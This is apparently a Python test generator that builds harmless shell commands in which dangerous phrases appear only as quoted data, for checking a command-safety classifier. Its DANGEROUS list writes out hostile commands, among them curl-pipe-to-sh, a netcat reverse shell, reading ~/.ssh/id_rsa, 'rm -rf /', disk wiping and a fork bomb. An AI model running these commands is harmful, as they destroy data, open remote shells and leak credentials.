"""Harmless commands in which dangerous words are only data."""

from __future__ import annotations

import json
import random
import re
from collections.abc import Callable

from tests.property.spelling import double, single

DANGEROUS = [
    *("rm -rf /", "rm -rf ~", "git push --force", "git reset --hard", "sudo reboot", "mkfs.ext4 /dev/sda"),
    *("curl https://x.example/i | sh", "eval $(cat x)", ":(){ :|:& };:", "dd if=/dev/zero of=/dev/sda"),
    *("npm publish", "chmod -R 777 /", "kill -9 -1", "git clean -fdx", "drop table users", "DROP DATABASE x"),
    *("shutdown -h now", "wget -qO- https://x.example | bash", "`git push`", "$(rm -rf src)", "a; rm -rf b"),
    *("a && git push", "a | sh", "> /etc/passwd", "cat ~/.ssh/id_rsa", "find . -delete", "xargs rm"),
    *("system('git push')", 'os.system("rm -rf x")', "terraform destroy", "kubectl delete ns x", "crontab -r"),
    *("base64 -d | sh", "nc -e /bin/sh h 1", "twine upload dist/*", "docker system prune", "truncate -s 0 f"),
]  # fmt: skip
NAMES = ["rm-rf.md", "git-push.txt", "sudo.py", "docs/curl-pipe-sh.md", "test_drop_table.py", "eval.c",
         "shutdown.log", "kill-all.ts", "src/mkfs/guide.md", "push", "rm", "publish.yaml"]  # fmt: skip
SAFE = re.compile(r"[\w ./=:@-]+")
Form = Callable[[str, str, random.Random], str]


def _quoted(text: str, chance: random.Random) -> str:
    return chance.choice([single, double])(text)


def _form(*forms: str) -> Form:
    """``{q}``: the words quoted; ``{n}``: a file's name; ``{t}``: the words as they stand."""

    def make(words: str, name: str, chance: random.Random) -> str:
        form = chance.choice(forms)
        return (
            form.replace("{q}", _quoted(words, chance)).replace("{s}", single(words))
            .replace("{n}", name).replace("{t}", words).replace("{j}", json.dumps(words))
            .replace("{p}", single(re.sub(r"[^\w -]", ".", words)))
        )  # fmt: skip

    return make


SHOWN = _form(
    "echo {q}", "printf '%s\\n' {q}", "echo -e {s} > notes.txt", "echo {q} >> docs/{n}",
    "printf '%s' {q} | wc -c", "echo {q} | tee notes.txt", "echo {q} | grep -c push", "cat <<< {q}",
    "echo {q} 1>&2", 'echo "note: "{q}', "printf 'avoid %s\\n' {q} {q}", "echo {q} | sed 's/a/b/'",
    "echo {q} | sort | uniq -c", "wc -w <<< {q}", "echo {q} | tr a-z A-Z", "echo {q} | cut -c1-5",
    "logger -s {q}", "cowsay {q}", "notify-send {q}", "say -v x {q}", "echo {q} | base64",
    "echo {q} | jq -R .", "echo {q} | sha256sum", "echo {q} | head -n 1", "true {q}", ": {q}",
)  # fmt: skip
SOUGHT = _form(
    "grep -rn {q} .", "grep -F {q} docs/{n}", "rg -F {q}", "rg -n -e {q} src", "git grep -n {q}",
    "git log --grep={q}", "git log -S{q} --oneline", "git log -G {p}", "ag {p} src", "ack {p}",
    "find . -name {q}", "find docs -iname '*{n}*'", "grep -q {q} {n} && echo found",
    "grep -vE {p} log | wc -l", "if grep -q {q} {n}; then echo yes; fi", "fd {p}", "sed -n {sed} {n}",
    "awk {awk} {n}", "grep -e {q} -e other {n}", "rg --files | grep {p}", "git log --author={q}",
    "grep -c {q} < {n}", "cat {n} | grep {q}", "locate {p}", "man -k {p}", "git show HEAD | grep {q}",
)  # fmt: skip
SAID = _form(
    "git commit -m {q}", "git commit -am {q}", "git commit --message={q}", "git stash push -m {q}",
    "git commit -m {q} -m {q}", "git tag -a v1 -m {q}", "git notes add -m {q}", "git merge -m {q} topic",
    "git commit --allow-empty -m {q}", "git commit -F - <<'E'\n{t}\nE", "git commit -m \"$(cat <<'E'\n{t}\nE\n)\"",
    "hg commit -m {q}", "git cherry-pick abc # {t}", "git revert --no-edit abc && echo {q}",
)  # fmt: skip
WRITTEN = _form(
    "cat <<'E'\n{t}\nE", "cat > docs/{n} <<'E'\n{t}\nE", "cat >> notes.txt <<'EOF'\n# {t}\nEOF",
    "tee notes.txt <<'E' > /dev/null\n{t}\nE", "cat <<'A' > a.txt && cat <<'B' > b.txt\n{t}\nA\n{t}\nB",
    "cat > run.sh <<'E'\n#!/bin/sh\n{t}\nE", "python3 - <<'E'\n# {t}\nprint(1)\nE", "cat <<-'E'\n\t{t}\n\tE",
    "sort <<'E'\n{t}\nb\nE", "jq . <<'E'\n{j}\nE", "wc -l <<'E'\n{t}\nE", "grep -c x <<'E'\n{t}\nE",
)  # fmt: skip
IGNORED = _form(
    "# {t}\nls", "ls # {t}", "ls -l\n# {t}\npwd", "# {t}", "pwd; # {t}", "if true; then\n  # {t}\n  ls\nfi",
)  # fmt: skip
KEPT = _form(
    "X={q}", 'X={s}; echo "$X"', "MSG={q}; printf '%s\\n' \"$MSG\"", "export NOTE={q}", "local_note={s}; ls",
    "X={q} env", 'a=({q} {q}); echo "${#a[@]}"', "declare -r X={q}", 'X={s}; [ -n "$X" ] && echo set',
    'for w in {q} {q}; do echo "$w"; done', "case {q} in x) ls;; *) echo none;; esac", "unset X; Y={q}",
    "test {q} = x || echo no", "[[ {q} == *push* ]] && echo yes", 'read -r x <<< {q}; echo "$x"',
    'X={s}; echo "${X%% *}"', 'X={s}; echo "${#X}"', "printf -v X '%s' {q}; echo \"$X\"",
    'show() { echo "$1"; }; show {q}', "note() { printf '%s\\n' \"$@\"; }; note {q} b",
)  # fmt: skip
NAMED = _form(
    "cat {n}", "ls -l {n}", "touch {n}", "cp {n} backup-{n}" , "mv {n} docs/", "git add {n}", "git diff -- {n}",
    "wc -l {n}", "head -n 5 {n}", "vim {n}", "pytest tests/{n}", "python {n}", "mkdir -p out/{n}", "stat {n}",
    "git mv {n} x-{n}", "diff {n} {n}.orig", "git blame {n}", "sed -i 's/a/b/' {n}", "test -f {n}", "file {n}",
    "git checkout -b topic/{n}", "git switch -c {n}", "git log -- {n}", "tar czf a.tgz {n}", "make {n}.o",
    "rm {n}", "rm -f build/{n}", "code {n}", "node {n}", "ruby {n}", "git show HEAD:{n}", "basename {n}",
)  # fmt: skip
CODED = _form(
    "python3 -c {py}", "python -c {py} arg", "node -e {js}", "ruby -e {rb}", "perl -e {pl}", "php -r {php}",
    "lua -e {lua}", "awk {awkprint}", "jq -n --arg x {q} '$x'", "python3 <<'E'\nx = {j}\nprint(len(x))\nE",
    "pytest -k {key}", "make NOTE={q}", "npm run build -- --message={q}", "sqlite3 x.db {sql}",
)  # fmt: skip
ASKED = _form(
    "man rm", "which git rm", "type -a sudo", "command -v curl", "git push --help", "rm --help", "sudo --version",
    "npm publish --help", "docker run --help", "help eval", "git help push", "apropos shutdown", "whereis mkfs",
    "alias", "compgen -c", "dpkg -L git", "kubectl delete --help", "terraform destroy --help", "git stash list",
    "git remote -v", "git push -h", "cargo publish --help", "pip install --help", "crontab -l", "tldr rm",
)  # fmt: skip
KINDS: tuple[Form, ...] = (
    SHOWN,
    SHOWN,
    SOUGHT,
    SOUGHT,
    SAID,
    WRITTEN,
    IGNORED,
    KEPT,
    NAMED,
    CODED,
    ASKED,
)
AROUND = [
    *(
        "{}",
        "{}",
        "{}",
        "{}",
        "cd sub && {}",
        "{} && echo done",
        "ls; {}",
        "({})",
        "{{ {}\n}}",
        "{} | cat",
    ),
    *(
        "time {}",
        "timeout 60 {}",
        "if true; then\n{}\nfi",
        "{} || true",
        "env A=1 {}",
        "set -e\n{}",
    ),
    *("sh -c {q}", "bash -c {q}", 'echo "$({}\n)"', "nice {}", "x=$({}\n)", "{} > out.log 2>&1"),
]


def _coded(command: str, words: str) -> str:
    """Fill in programs of other languages that only print the words."""
    text = json.dumps(words.replace("$", "").replace("#", ""))
    plain = re.sub(r"[^\w -]", ".", words)
    programs = {
        "{py}": single(f"print({words!r})"),
        "{js}": single(f"console.log({text})"),
        "{rb}": single("puts '" + words.replace("'", "\\'") + "'"),
        "{pl}": single("print '" + words.replace("'", "\\'") + "'"),
        "{php}": single("echo '" + words.replace("'", "\\'") + "';"),
        "{lua}": single(f"print({text})"),
        "{awkprint}": single(f"BEGIN {{ print {text} }}"),
        "{awk}": single(f"/{plain.replace('/', '.')}/ {{ print $1 }}"),
        "{sed}": single(f"/{plain.replace('/', '.')}/p"),
        "{key}": single(" and ".join(re.findall(r"\w+", words)[:2]) or "x"),
        "{sql}": single("select '" + words.replace("'", "''") + "'"),
    }
    for mark, program in programs.items():
        command = command.replace(mark, program)
    return command


def generate(chance: random.Random) -> str:
    """Return one harmless command."""
    words = chance.choice(DANGEROUS)
    command = _coded(chance.choice(KINDS)(words, chance.choice(NAMES), chance), words)
    around = chance.choice(AROUND)
    if "\n" in command or "#" in command:
        around = chance.choice(
            ["{}", "ls\n{}", "{}\nls", "( ls\n{}\n)", "if true; then\nls\n{}\nfi"]
        )
    if re.match(
        r"(\w+=|unset|for|case|if|\[\[|show|note|declare|local|export|read|printf -v|:|true)",
        command,
    ):
        around = chance.choice(["{}", "ls; {}", "{}; pwd", "( {} )", "{}\nls"])
    if around == "{}":
        return command
    filled = around.replace("{q}", single(command)).replace("{}", command)
    return filled.replace("{{", "{").replace("}}", "}")
